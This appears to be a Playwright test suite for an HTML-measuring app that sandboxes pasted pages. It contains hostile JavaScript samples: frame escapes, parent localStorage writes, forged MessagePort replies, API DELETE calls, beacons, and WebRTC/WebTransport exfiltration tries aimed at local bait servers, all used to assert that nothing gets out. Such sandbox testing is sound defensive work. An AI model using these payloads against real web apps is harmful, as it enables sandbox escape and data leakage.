/** Pages that mean harm, each with its scripts held and with them running: none reaches anything beyond itself. */
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, afterEach, before, describe, test } from 'node:test';
import { chromium, type Browser, type Page } from 'playwright-core';
import { launchOptions } from '../../../src/lib/server/engines/drivers/chromium.ts';
import { openDesk, until, type Desk } from '../../support/app.ts';

const nest = (depth: number): string => '<div>'.repeat(depth) + 'deep' + '</div>'.repeat(depth);

/** `report` writes into the page itself, where the test can read it; `BAIT` and `APP` are addresses put in by the test. */
/** `blocked`: so many tries must have been made and failed while the scripts run, or the test has tried nothing. */
const ATTACKS: { name: string; html: string; script: string; blocked: number }[] = [
  {
    name: 'reaching the parent',
    blocked: 3,
    html: '',
    script: `try { report('parent', parent.document.title) } catch (e) { report('blocked', e.name) } try { report('top', top.location.href) } catch (e) { report('blocked', e.name) } try { parent.localStorage.setItem('owned', '1'); report('storage', 'parent') } catch (e) { report('blocked', e.name) }`,
  },
  {
    name: 'navigating the top',
    blocked: 1,
    html: '<a id="l" target="_top" href="BAIT/top">x</a>',
    script: `try { top.location = 'BAIT/top'; } catch (e) { report('blocked', e.name) } document.getElementById('l').click(); try { parent.location.replace('BAIT/top') } catch (e) { report('blocked', e.name) }`,
  },
  {
    name: 'storage and cookies',
    blocked: 3,
    html: '',
    script: `for (const f of [() => localStorage.setItem('a', '1'), () => sessionStorage.length, () => { document.cookie = 'a=1'; if (!document.cookie) throw new Error('none') }, () => indexedDB.open('x').onsuccess]) try { f(); report('reached', f) } catch (e) { report('blocked', e.name) } `,
  },
  {
    name: 'calling the API',
    blocked: 3,
    html: '<img src="APP/api/specimens"><link rel=stylesheet href="APP/api/specimens"><iframe src="APP/"></iframe>',
    script: `fetch('APP/api/specimens').then(r => r.text()).then(t => report('reached', t.slice(0, 50)), e => report('blocked', e.name)); fetch('APP/api/specimens', { method: 'POST', mode: 'no-cors', body: '{}' }).then(() => report('reached', 'post'), e => report('blocked', e.name)); try { const x = new XMLHttpRequest(); x.open('DELETE', 'APP/api/specimens/x', false); x.send(); report('reached', x.status) } catch (e) { report('blocked', e.name) } try { navigator.sendBeacon('BAIT/beacon', 'x') } catch (e) { report('blocked', e.name) } try { new WebSocket('BAIT/'.replace('http', 'ws')).onopen = () => report('reached', 'ws') } catch (e) { report('blocked', e.name) } try { new EventSource('BAIT/es') } catch (e) {}`,
  },
  {
    name: 'forging port messages',
    blocked: 0,
    html: '',
    script: `const real = MessagePort.prototype.postMessage; addEventListener('message', e => report('got', e.data), true); MessagePort.prototype.postMessage = function (m) { real.call(this, { id: m && m.id, ok: true, reply: { evil: true } }) }; Object.defineProperty(MessageEvent.prototype, 'ports', { get() { report('ports', 'read'); return [] } })`,
  },
  {
    name: 'flooding',
    blocked: 0,
    html: '',
    script: `const ports = []; const grab = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'ports').get; Object.defineProperty(MessageEvent.prototype, 'ports', { get() { const p = grab.call(this); for (const one of p) { setInterval(() => { for (let i = 0; i < 200; i++) one.postMessage({ id: 1e9 + i, ok: true, reply: 'x'.repeat(1000) }) }, 5) } return p } }); setInterval(() => { for (let i = 0; i < 50; i++) parent.postMessage('flood', '*') }, 5)`,
  },
  {
    name: 'popups, downloads, forms',
    blocked: 0,
    html: '<form id="f" action="BAIT/form" method="post"><input name="a" value="1"></form><a id="d" href="BAIT/file" download>x</a><a id="p" href="BAIT/popup" target="_blank">x</a>',
    script: `try { report('popup', String(window.open('BAIT/popup'))) } catch (e) { report('blocked', e.name) } document.getElementById('d').click(); document.getElementById('p').click(); document.getElementById('f').submit(); try { alert('x'); report('alert', 'shown') } catch (e) {}`,
  },
  {
    name: 'meta refresh and base',
    blocked: 0,
    html: '<meta http-equiv="refresh" content="0;url=BAIT/refresh"><meta http-equiv=" Refresh " content="0;url=BAIT/refresh"><base href="BAIT/" target="_top"><link rel=stylesheet href="evil.css"><img src="x.png"><object data="BAIT/o"></object><embed src="BAIT/e">',
    script: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=BAIT/refresh'; document.head.append(m); setTimeout(() => { location = 'BAIT/self' }, 50)`,
  },
];

const ESCAPED = (html: string): string => html.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
/** A connection between peers by way of servers at an address where nobody else sends anything. */
const CONNECT = `try { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }, { urls: 'turn:UDP?transport=tcp', username: 'a', credential: 'b' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) } catch (e) { window.report?.('blocked', e.name) }`;
const IN_SCRIPT = (html: string): string => JSON.stringify(html).replace(/<\//g, '<\\/');

/** Ways out of a page whose scripts were let run, each tried by itself: nothing may arrive anywhere. */
const ESCAPES: { name: string; html: string }[] = [
  { name: 'WebRTC in the page', html: `<script>${CONNECT}</script>` },
  {
    name: 'WebRTC in a written document',
    html: `<iframe srcdoc="${ESCAPED(`<script>${CONNECT}</script>`)}"></iframe>`,
  },
  {
    name: 'WebRTC in a document that a script writes',
    html: `<script>const f = document.createElement('iframe'); f.srcdoc = ${IN_SCRIPT(`<script>${CONNECT}</script>`)}; document.documentElement.append(f)</script>`,
  },
  {
    name: 'WebRTC in a blank document',
    html: `<script>const f = document.createElement('iframe'); document.documentElement.append(f); try { window.RTCPeerConnection = f.contentWindow.RTCPeerConnection; ${CONNECT} } catch (e) { report('blocked', e.name) }</script>`,
  },
  {
    name: 'WebRTC in a document of data',
    html: `<iframe src="data:text/html,${encodeURIComponent(`<script>${CONNECT}</script>`)}"></iframe>`,
  },
  {
    name: 'WebRTC in a document of a blob',
    html: `<script>const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([${IN_SCRIPT(`<script>${CONNECT}</script>`)}], { type: 'text/html' })); document.documentElement.append(f)</script>`,
  },
  {
    name: 'WebRTC in a drawing',
    html: `<iframe src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><script>${CONNECT}</script></svg>`)}"></iframe>`,
  },
  {
    name: 'another port of a name under localhost',
    html: `<script>setTimeout(() => { location = 'http://anything.localhost:PORT/self' }, 100)</script>`,
  },
  { name: 'another port in a frame', html: `<iframe src="http://anything.localhost:PORT/frame"></iframe>` },
  {
    name: 'a frame that goes elsewhere',
    html: `<iframe srcdoc="${ESCAPED(`<script>location = 'http://anything.localhost:PORT/inner'</script>`)}"></iframe>`,
  },
  {
    name: 'connecting ahead',
    html: `<link rel=preconnect href="http://anything.localhost:PORT"><link rel="dns-prefetch preconnect" href="http://127.0.0.1:PORT"><script>for (const rel of ['preconnect', 'prefetch', 'prerender', 'modulepreload', 'preload']) { const l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = 'http://127.0.0.1:PORT/' + rel; document.head.append(l) } const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: ['http://anything.localhost:PORT/spec'] }] }); document.head.append(s)</script>`,
  },
  {
    name: 'WebTransport',
    html: `<script>try { new WebTransport('https://127.0.0.1:PORT/wt').ready.catch(() => {}) } catch (e) { report('blocked', e.name) }</script>`,
  },
];

describe('hostile pages', () => {
  let desk: Desk;
  /** An engine as a user has it: without what one that the server starts is told besides. */
  let plain: Browser;
  let bait: Server;
  let caught: string[] = [];
  let baitUrl = '';
  before(async () => {
    desk = await openDesk({ NORMETRA_DEMO: 'none' });
    const { args = [], ...options } = launchOptions(process.getuid?.());
    plain = await chromium.launch({ ...options, args: args.filter((flag) => !/webrtc/.test(flag)) });
    bait = createServer((req, res) => {
      caught.push(`${req.method} ${req.url}`);
      res.end('bait');
    });
    await new Promise<void>((resolve) => bait.listen(0, '127.0.0.1', resolve));
    baitUrl = `http://127.0.0.1:${(bait.address() as AddressInfo).port}`;
  });
  afterEach(() => desk.clear());
  after(async () => {
    bait.closeAllConnections();
    bait.close();
    await plain.close();
    await desk.close();
  });

  async function bring(page: Page, html: string): Promise<string> {
    await page.goto(desk.app.url);
    await page.getByRole('tab', { name: 'Paste' }).click();
    await page.getByLabel('HTML', { exact: false }).first().fill(html);
    await page.getByRole('button', { name: 'Measure it' }).click();
    await page.waitForURL(/\/bench\//);
    return page.url();
  }
  const settled = (page: Page) =>
    page.locator('[data-status=ready], [data-status=failed]').waitFor({ state: 'attached' });

  const REPORT = `<script>window.report = (what, detail) => { const p = document.createElement('p'); p.className = 'report'; p.dataset.what = what; p.textContent = what + ': ' + detail; document.documentElement.append(p) }</script>`;

  /** What the attacks say of themselves, in the page and in all frames. */
  async function reportsOf(page: Page): Promise<string[]> {
    const said = page
      .frames()
      .map((frame) =>
        frame
          .evaluate(() =>
            Array.from(document.querySelectorAll('.report'), ({ textContent }) => textContent ?? ''),
          )
          .catch(() => []),
      );
    return (await Promise.all(said)).flat();
  }

  for (const { name, html, script, blocked } of ATTACKS)
    test(name, async () => {
      const { page, context } = await desk.page();
      const put = (text: string) => text.replaceAll('BAIT', baitUrl).replaceAll('APP', desk.app.url);
      caught = [];
      const others: string[] = [];
      page.on('dialog', (dialog) => {
        others.push(`dialog ${dialog.message()}`);
        void dialog.dismiss();
      });
      page.on('download', (download) => others.push(`download ${download.url()}`));
      context.on('page', (opened) => others.push(`page ${opened.url()}`));
      const address = await bring(
        page,
        put(
          `<!doctype html><html><head><title>Hostile</title></head><body>${REPORT}<p class="mark">mark</p>${html}<script>${script}</script></body></html>`,
        ),
      );
      const { count: before } = await shelf(page);
      await page.goto(address);
      for (const mode of ['held', 'running']) {
        await settled(page);
        if (mode === 'running') {
          await page.locator('[data-scripts]').click();
          await page.waitForTimeout(1500);
          await settled(page);
        } else await page.waitForTimeout(500);
        assert.ok(page.url().startsWith(`${desk.app.url}/bench/`), `${mode}: the page went to ${page.url()}`);
        assert.deepEqual(caught, [], `${mode}: something was asked of another server`);
        assert.deepEqual(others, [], `${mode}: something was opened`);
        const isBlocked = (text: string) => text.startsWith('blocked');
        const wanted = mode === 'running' ? blocked : 0;
        const reports = await until(
          () => reportsOf(page),
          (said) => said.filter(isBlocked).length >= wanted,
        );
        const reached = reports.filter(
          (report) => !/^(blocked|ports|got)|^popup: null$|^reached: \\(\\) => navigator/.test(report),
        );
        assert.deepEqual(reached, [], `${mode}: it reached something`);
        assert.ok(reports.filter(isBlocked).length >= wanted, JSON.stringify(reports));
        if (mode === 'held') {
          assert.deepEqual(reports, [], 'held scripts do not run');
          assert.equal(
            await page.locator('[data-status]').getAttribute('data-status'),
            'ready',
            'a page whose scripts are held is measured',
          );
        }
        // Usable: the Bench answers to its user, whatever the page does.
        await page.keyboard.press('?');
        await page.getByRole('dialog').waitFor();
        await page.keyboard.press('Escape');
        await page.getByRole('dialog').waitFor({ state: 'detached' });
        if ((await page.locator('[data-status=failed]').count()) > 0)
          assert.match(await page.locator('[data-failure]').innerText(), /Hold its scripts/);
      }
      assert.equal(await page.evaluate(() => localStorage.getItem('owned')), null);
      assert.equal((await shelf(page)).count, before);
      await context.close();
    });

  for (const { name, html } of ESCAPES)
    test(`no way out: ${name}`, async () => {
      const udp = createSocket('udp4');
      const arrived: string[] = [];
      udp.on('message', (message) => arrived.push(`a packet of ${message.length} bytes`));
      await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
      const tcp = createServer((req, res) => {
        arrived.push(`${req.method} ${req.headers.host}${req.url}`);
        res.end('bait');
      });
      tcp.on('connection', () => arrived.push('a connection'));
      await new Promise<void>((resolve) => tcp.listen(0, resolve));
      const port = String((tcp.address() as AddressInfo).port);
      const page = await plain.newPage();
      try {
        const text = html.replaceAll('UDP', `127.0.0.1:${udp.address().port}`).replaceAll('PORT', port);
        await bring(page, `<!doctype html><title>Out</title>${REPORT}<p class=mark>mark</p>${text}`);
        await settled(page);
        assert.deepEqual(arrived, [], 'with its scripts held');
        await page.locator('[data-scripts]').click();
        // The engine may end a page that tries: nothing can be asked of it then.
        await new Promise((resolve) => setTimeout(resolve, 1500));
        assert.deepEqual(arrived, [], 'with its scripts running');
      } finally {
        await page.close();
        udp.close();
        tcp.closeAllConnections();
        tcp.close();
      }
    });

  test('what these tries send arrives where nothing stands in their way', async () => {
    const udp = createSocket('udp4');
    const arrived: number[] = [];
    udp.on('message', (message) => arrived.push(message.length));
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    const page = await plain.newPage();
    await page.goto(`${baitUrl}/bare`);
    await page.evaluate(CONNECT.replaceAll('UDP', `127.0.0.1:${udp.address().port}`));
    await until(
      () => Promise.resolve(arrived.length),
      (count) => count > 0,
    );
    assert.ok(arrived.length > 0);
    await page.close();
    udp.close();
  });

  test('a page that goes elsewhere after it was measured is not shown under the old numbers', async () => {
    const { page, context } = await desk.page();
    await bring(
      page,
      '<!doctype html><title>Gone</title><p class=box style="width:123px">x<script>addEventListener("resize", () => { location = "other.html" })</script>',
    );
    await settled(page);
    await page.locator('[data-scripts]').click();
    await page.locator('[data-status=ready]').waitFor({ state: 'attached' });
    await page.locator('[data-selector]').fill('.box');
    await page.locator('[data-selector]').press('Enter');
    await page.locator('[data-account]').waitFor();
    // Another width makes it go.
    await page.locator('body').press(',');
    await page.locator('[data-failure]').waitFor();
    assert.match(await page.locator('[data-failure]').innerText(), /went to another address by itself/);
    assert.equal(await page.locator('[data-account]').count(), 0, 'no account is left of it');
    assert.doesNotMatch(await page.locator('body').innerText(), /123/);
    await context.close();
  });

  async function shelf(page: Page): Promise<{ count: number }> {
    const list = (await (await page.request.get(`${desk.app.url}/api/specimens`)).json()) as unknown[];
    return { count: list.length };
  }

  test('50,000 elements', async () => {
    const { page, context } = await desk.page();
    await bring(
      page,
      `<!doctype html><title>Many</title><style>i{display:inline-block;width:4px;height:4px;padding:1px}</style><div class=box>${'<i></i>'.repeat(50_000)}</div>`,
    );
    await settled(page);
    assert.equal(await page.locator('[data-status]').getAttribute('data-status'), 'ready');
    assert.match(await page.locator('[data-facts]').innerText(), /5000\d boxes/);
    await page.locator('[data-selector]').fill('i:last-child');
    await page.locator('[data-selector]').press('Enter');
    await page.locator('[data-account="i"]').waitFor();
    assert.equal(await page.locator('[data-sentence=x]').innerText(), '6 wide = 4 content, 1 + 1 padding.');
    await context.close();
  });

  test('nested 2,000 deep, by the parser and by script', async () => {
    for (const html of [
      nest(2000),
      `<p>x</p><script>let at = document.body; for (let i = 0; i < 2000; i++) at = at.appendChild(document.createElement('div')); at.textContent = 'deep'; at.className = 'deepest'</script>`,
    ]) {
      const { page, context } = await desk.page();
      await bring(page, `<!doctype html><title>Deep</title>${html}`);
      await settled(page);
      if (html.startsWith('<p>')) {
        await page.locator('[data-scripts]').click();
        await page.waitForTimeout(800);
        await settled(page);
      }
      const status = await page.locator('[data-status]').getAttribute('data-status');
      assert.equal(status, 'ready', await page.locator('main').innerText());
      await page.locator('[data-selector]').fill('div div div div');
      await page.locator('[data-selector]').press('Enter');
      await page.locator('[data-account]').waitFor();
      await context.close();
    }
  });

  test('a script that never ends leaves the Bench usable, and can be held', async () => {
    const { page, context } = await desk.page();
    await bring(
      page,
      '<!doctype html><title>Busy</title><p class=box>x<script>setTimeout(() => { for (;;); }, 0)</script>',
    );
    await settled(page);
    await page.locator('[data-scripts]').click();
    await page.waitForTimeout(500);
    await page.keyboard.press('?');
    await page.getByRole('dialog').waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'Stop' }).click();
    await page.locator('[data-failure]').waitFor();
    await page.getByRole('button', { name: 'Hold its scripts' }).click();
    await page.locator('[data-status=ready]').waitFor({ state: 'attached' });
    await context.close();
  });
});
